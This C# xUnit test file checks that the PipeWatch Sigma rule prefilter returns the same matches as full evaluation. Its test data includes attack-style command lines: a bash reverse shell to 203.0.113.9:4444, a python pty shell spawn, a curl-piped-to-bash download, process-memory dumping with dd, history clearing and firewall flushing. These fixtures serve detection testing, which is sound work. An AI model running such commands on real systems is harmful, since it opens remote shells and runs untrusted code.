using PipeWatch.Diagnostics;
using PipeWatch.Events;
using PipeWatch.Rules.Sigma;
using PipeWatch.Tests.Support;
using Xunit;
using static PipeWatch.Tests.Rules.Sigma.SigmaTestRules;

namespace PipeWatch.Tests.Rules.Sigma;

/// <summary>The prefilter only skips rules that could not match: the rule set gives exactly what evaluating every fitting rule gives.</summary>
public sealed class SigmaPrefilterTests
{
    private static readonly SigmaRuleSet CorpusAndPack = Load();

    private static SigmaRuleSet Load()
    {
        var problems = new List<Problem>();
        var set = SigmaRuleSet.Create([.. SigmaRuleLoader.LoadDirectory(Corpus.File("sigma")), .. SigmaRuleSources.BuiltIn()], SigmaFieldMapping.Default, problems);
        Assert.Empty(problems);
        return set;
    }

    // Command lines from corpus rules' own titles' world: hits for some rules, near misses for others, upper and lower case.
    public static TheoryData<string, string> Commands => new()
    {
        { "/usr/bin/crontab", "crontab -r" },
        { "/usr/bin/base64", "BASE64 -d payload.txt" },
        { "/usr/bin/chmod", "chmod +x /tmp/x && /tmp/x" },
        { "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" },
        { "/usr/bin/python3", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'" },
        { "/usr/sbin/iptables", "iptables -F" },
        { "/usr/bin/curl", "curl -sSfL https://example.net/i.sh | bash" },
        { "/usr/bin/dd", "dd if=/proc/1830/mem bs=1" },
        { "/usr/bin/history", "history -c" },
        { "/usr/bin/find", "find / -perm -4000 -type f" },
        { "/usr/bin/git", "git status" },
        { "/usr/bin/dotnet", "dotnet test" },
    };

    [Theory]
    [MemberData(nameof(Commands))]
    public void Prefiltered_matches_equal_evaluating_every_fitting_rule(string image, string commandLine)
    {
        var e = Process(image, commandLine);
        var fields = new SigmaEventFields(e, CorpusAndPack.Mapping);
        var matched = new List<SigmaRule>();

        CorpusAndPack.Match(e, fields, matched);

        var expected = CorpusAndPack.Rules.Where(r => CorpusAndPack.Fits(r, e) && r.Matches(fields)).ToList();
        Assert.Equal(expected, matched);
    }

    [Fact]
    public void The_commands_hit_rules_so_the_comparison_above_is_not_empty()
    {
        var hits = Commands.Select(c => Process(c.Data.Item1, c.Data.Item2)).Count(e =>
        {
            var matched = new List<SigmaRule>();
            CorpusAndPack.Match(e, new SigmaEventFields(e, CorpusAndPack.Mapping), matched);
            return matched.Count > 0;
        });

        Assert.InRange(hits, 6, Commands.Count - 2);
    }

    [Fact]
    public void Rules_whose_literals_are_absent_are_not_evaluated()
    {
        var rules = new[]
        {
            Rule("selection:\n    f|contains: 'needle'\ncondition: selection"),
            Rule("a:\n    f|contains: 'alpha'\nb:\n    f|contains: 'beta'\ncondition: a or b"),
            Rule("a:\n    f|contains: 'alpha'\nb:\n    g|re: 'x+'\ncondition: a and b"),
            Rule("a:\n    f|re: 'x+'\ncondition: a"),
            Rule("a:\n    f|contains: 'alpha'\ncondition: not a"),
            Rule("a:\n    f: 'C:\\\\Win*\\\\cmd.exe'\ncondition: a"),
        };
        var prefilter = new SigmaPrefilter(rules);
        var candidates = new List<int>();

        prefilter.Candidates(Fields(("f", "nothing to see"), ("g", "xxx")), candidates);
        Assert.Equal([3, 4], candidates);

        prefilter.Candidates(Fields(("f", "a NEEDLE and BETA")), candidates);
        Assert.Equal([0, 1, 3, 4], candidates);

        prefilter.Candidates(Fields(("f", @"c:\windows\system32\CMD.EXE")), candidates);
        Assert.Equal([3, 4, 5], candidates);

        prefilter.Candidates(Fields(("f", "alpha")), candidates);
        Assert.Equal([1, 2, 3, 4], candidates);
        Assert.Equal(2, prefilter.AlwaysRun);
    }

    private static Event Process(string image, string commandLine) => new()
    {
        Kind = EventKind.Telemetry,
        Id = $"ecs:{commandLine}",
        Timestamp = DateTimeOffset.UnixEpoch,
        Dataset = "runner.process",
        Ci = CiContext.ForRepository("acme/api"),
        Fields = new Dictionary<string, string>
        {
            ["event.category"] = "process",
            ["process.executable"] = image,
            ["process.command_line"] = commandLine,
            ["process.parent.executable"] = "/home/runner/actions-runner/bin/Runner.Worker",
        },
        Origin = new Origin("runner.jsonl"),
    };
}
